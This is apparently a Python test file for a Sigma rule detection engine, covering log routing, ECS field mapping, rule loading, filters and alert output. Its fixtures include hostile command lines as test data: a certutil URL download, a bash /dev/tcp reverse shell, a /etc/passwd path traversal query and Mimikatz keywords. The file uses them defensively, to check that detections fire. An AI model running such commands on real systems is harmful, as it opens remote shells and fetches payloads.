"""The engine around the matcher: log source routing, ECS field mapping with raw fallback, loading, alerts."""

from __future__ import annotations

from pathlib import Path

import pytest

from correlation.sigma import RulePathError, SigmaEngine, to_alert
from tests.correlation.sigma_support import engine_with, fires, unit_event, unit_rule, windows_event

PROCESS_RULE = r"""
title: Certutil download
id: 11111111-1111-4111-8111-111111111111
level: high
description: certutil fetching a URL
tags: [attack.command-and-control, attack.t1105, attack.defense-evasion]
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\certutil.exe'
    CommandLine|contains: 'urlcache'
  condition: selection
"""

CMDLINE = "certutil.exe -urlcache -f http://x/a.exe"


def test_process_creation_rules_see_sysmon_1_and_security_4688_only() -> None:
    engine = engine_with(PROCESS_RULE)
    sysmon = windows_event(
        1, {"Image": "C:\\Windows\\certutil.exe"}, process__executable="C:\\Windows\\certutil.exe",
        process__command_line=CMDLINE,
    )
    security = windows_event(
        4688, provider="Microsoft-Windows-Security-Auditing", channel="Security",
        process__executable="C:\\Windows\\System32\\certutil.exe", process__command_line=CMDLINE,
    )
    file_event = windows_event(11, process__executable="C:\\Windows\\certutil.exe", process__command_line=CMDLINE)
    assert fires(engine, sysmon)
    assert fires(engine, security)
    assert not fires(engine, file_event)


def test_mapped_fields_fall_back_to_the_raw_field_only_when_ecs_is_absent() -> None:
    engine = engine_with(PROCESS_RULE)
    raw_only = windows_event(1, {"Image": "C:\\x\\certutil.exe", "CommandLine": CMDLINE})
    assert fires(engine, raw_only)
    security_raw = windows_event(
        4688, {"NewProcessName": "C:\\x\\certutil.exe", "ProcessCommandLine": CMDLINE},
        provider="Microsoft-Windows-Security-Auditing", channel="Security",
    )
    assert fires(engine, security_raw)  # Sysmon names fall back to the Security 4688 names too
    ecs_differs = windows_event(
        1, {"Image": "C:\\x\\certutil.exe", "CommandLine": CMDLINE},
        process__executable="C:\\x\\notepad.exe",
    )
    assert not fires(engine, ecs_differs)  # the ECS value wins when present


def test_fields_without_ecs_equivalent_read_winlog_event_data() -> None:
    engine = engine_with(
        r"""
title: High integrity
logsource: {product: windows, category: process_creation}
detection:
  sel:
    IntegrityLevel: High
    User|contains: 'AUTHORI'
  condition: sel
"""
    )
    event = windows_event(1, {"IntegrityLevel": "High", "User": "NT AUTHORITY\\SYSTEM"}, user__name="SYSTEM")
    assert fires(engine, event)


def test_services_route_by_channel_and_registry_categories_by_event_type() -> None:
    engine = engine_with(
        """
title: Task deleted
logsource: {product: windows, service: security}
detection:
  sel:
    EventID: 4699
  condition: sel
""",
        r"""
title: Key created
logsource: {product: windows, category: registry_add}
detection:
  sel:
    TargetObject|contains: '\Run'
  condition: sel
""",
    )
    security = windows_event(4699, provider="Microsoft-Windows-Security-Auditing", channel="Security")
    system = windows_event(4699, provider="Service Control Manager", channel="System")
    assert [m.rule.title for m in engine.match(security)] == ["Task deleted"]
    assert not engine.match(system)
    created = windows_event(12, {"EventType": "CreateKey"}, registry__path="HKLM\\Software\\Run")
    deleted = windows_event(12, {"EventType": "DeleteKey"}, registry__path="HKLM\\Software\\Run")
    assert [m.rule.title for m in engine.match(created)] == ["Key created"]
    assert not engine.match(deleted)


def test_other_sources_route_by_dataset_and_map_fields_to_ecs() -> None:
    engine = engine_with(
        """
title: Path traversal
logsource: {category: webserver}
detection:
  sel:
    cs-uri-query|contains: '../'
    cs-method: GET
  condition: sel
""",
        """
title: Console login without MFA
logsource: {product: aws, service: cloudtrail}
detection:
  sel:
    eventName: ConsoleLogin
    additionalEventData.MFAUsed: 'No'
  condition: sel
""",
    )
    web = {
        "event": {"dataset": "apache.access", "category": ["web"]},
        "url": {"query": "f=../../etc/passwd"},
        "http": {"request": {"method": "GET"}},
    }
    assert [m.rule.title for m in engine.match(web)] == ["Path traversal"]
    cloudtrail = {
        "event": {"dataset": "aws.cloudtrail"},
        "eventName": "ConsoleLogin",
        "additionalEventData": {"MFAUsed": "No"},
    }
    assert [m.rule.title for m in engine.match(cloudtrail)] == ["Console login without MFA"]
    assert not engine.match({**cloudtrail, "event": {"dataset": "system.auth"}})


def test_linux_process_rules_read_ecs_process_fields() -> None:
    engine = engine_with(
        """
title: Reverse shell
logsource: {product: linux, category: process_creation}
detection:
  sel:
    CommandLine|contains: '/dev/tcp/'
  condition: sel
"""
    )
    event = {
        "event": {"dataset": "auditd.log", "category": ["process"], "type": ["start"]},
        "host": {"os": {"type": "linux"}},
        "process": {"command_line": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
    }
    assert fires(engine, event)


@pytest.mark.parametrize("scanner", ["hyperscan", "ahocorasick", "none"])
def test_every_pre_filter_gives_the_same_matches(scanner: str) -> None:
    engine = engine_with(
        PROCESS_RULE,
        unit_rule("sel:\n  Text|contains: 'needle'\nflt:\n  Text|contains: 'hay'\ncondition: sel and not flt", "n"),
        unit_rule("keywords: ['Kiwi', 'sekurlsa::']\ncondition: keywords", "k"),
        unit_rule("sel:\n  Text|re: 'a[0-9]{3}z'\ncondition: sel", "r"),
        scanner=scanner,
    )
    cases = [
        (unit_event(Text="a needle"), {"n"}),
        (unit_event(Text="a needle in hay"), set()),
        (unit_event(Text="x a123z x", Other="SEKURLSA::x"), {"r", "k"}),
        (unit_event(Text="say \"needle\\\" \u00c9"), {"n"}),
    ]
    for _ in range(3):  # long enough for the literal statistics to re-choose triggers
        for event, titles in cases * 50:
            assert {m.rule.title for m in engine.match(event)} == titles


def test_load_reports_each_rule_that_did_not_load(tmp_path: Path) -> None:
    (tmp_path / "good.yml").write_text(PROCESS_RULE, encoding="utf-8")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "broken.yaml").write_text("title: [unclosed\n", encoding="utf-8")
    (tmp_path / "sub" / "modifier.yml").write_text(
        unit_rule("sel:\n  A|nosuch: x\ncondition: sel", "Bad modifier"), encoding="utf-8"
    )
    (tmp_path / "notes.txt").write_text("not a rule", encoding="utf-8")
    (tmp_path / "correlation.yml").write_text(
        "title: Many\nname: many\ncorrelation:\n  type: event_count\n  rules: [x]\n  group-by: [User]\n"
        "  timespan: 5m\n  condition: {gte: 10}\n",
        encoding="utf-8",
    )
    engine = SigmaEngine()
    report = engine.load([tmp_path])
    assert (report.loaded, report.total, report.files) == (1, 3, 4)
    reasons = {failure.path.name: failure.reason for failure in report.failures}
    assert reasons["broken.yaml"].startswith("invalid YAML")
    assert "Unknown modifier 'nosuch'" in reasons["modifier.yml"]
    assert [item.path.name for item in report.skipped] == ["correlation.yml"]
    assert report.to_dict()["failed"] == 2
    assert [rule.title for rule in engine.rules] == ["Certutil download"]


def test_missing_rule_path_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(RulePathError, match="no such file or folder"):
        SigmaEngine().load([tmp_path / "missing"])


def test_sigma_filters_apply_to_the_rules_they_name() -> None:
    engine = engine_with(
        PROCESS_RULE
        + """---
title: Allow the updater
filter:
  rules: [11111111-1111-4111-8111-111111111111]
  selection:
    ParentImage|endswith: '\\updater.exe'
  condition: not selection
logsource: {product: windows, category: process_creation}
"""
    )
    base = {"process__executable": "C:\\certutil.exe", "process__command_line": CMDLINE}
    assert fires(engine, windows_event(1, **base, process__parent__executable="C:\\explorer.exe"))
    assert not fires(engine, windows_event(1, **base, process__parent__executable="C:\\x\\updater.exe"))


def test_alert_carries_rule_threat_and_entity_fields() -> None:
    engine = engine_with(PROCESS_RULE)
    event = windows_event(
        1, process__executable="C:\\certutil.exe", process__command_line=CMDLINE,
        host__name="ws-17", user__name="bob", source__ip="10.1.2.3",
    )
    event["@timestamp"] = "2026-11-02T10:00:00.000Z"
    event["event"]["id"] = "e" * 32
    (match,) = engine.match(event)
    alert = to_alert(match, ruleset="sigmahq")
    assert alert["event"]["kind"] == "alert"
    assert alert["rule"] == {
        "id": "11111111-1111-4111-8111-111111111111",
        "name": "Certutil download",
        "ruleset": "sigmahq",
        "level": "high",
        "description": "certutil fetching a URL",
    }
    assert alert["threat"] == {
        "framework": "MITRE ATT&CK",
        "tactic": {"id": ["TA0011", "TA0005"], "name": ["Command and Control", "Defense Evasion"]},
        "technique": {"id": ["T1105"]},
    }
    assert alert["sontra"]["alert"]["source_event_ids"] == ["e" * 32]  # the pivot back to the matched event
    assert "created" not in alert["event"]
    assert to_alert(engine.match(event)[0], created="2026-11-02T10:00:05.000Z")["event"]["created"] == (
        "2026-11-02T10:00:05.000Z"
    )
    assert (alert["host"]["name"], alert["user"]["name"], alert["source"]["ip"]) == ("ws-17", "bob", "10.1.2.3")
    assert alert["@timestamp"] == "2026-11-02T10:00:00.000Z"
    assert alert["event"]["severity"] == 4
    again = to_alert(engine.match(event)[0], ruleset="sigmahq")
    assert again["event"]["id"] == alert["event"]["id"]  # a retried batch stores the alert once
    other = dict(event, event={**event["event"], "id": "f" * 32})
    assert to_alert(engine.match(other)[0])["event"]["id"] != alert["event"]["id"]


def test_detect_is_the_ingest_pipeline_detector() -> None:
    engine = engine_with(PROCESS_RULE, ruleset="sigmahq")
    hit = windows_event(1, process__executable="C:\\certutil.exe", process__command_line=CMDLINE)
    miss = windows_event(1, process__executable="C:\\notepad.exe")
    alerts = engine.detect([hit, miss, hit])
    assert [alert["rule"]["name"] for alert in alerts] == ["Certutil download"] * 2
    assert all(alert["rule"]["ruleset"] == "sigmahq" for alert in alerts)


def test_rules_without_any_literal_still_match() -> None:
    engine = engine_with(unit_rule("sel:\n  Count|gt: 5\nflt:\n  Name: x\ncondition: sel and not flt"))
    assert fires(engine, unit_event(Count=6, Name="y"))
    assert not fires(engine, unit_event(Count=6, Name="x"))
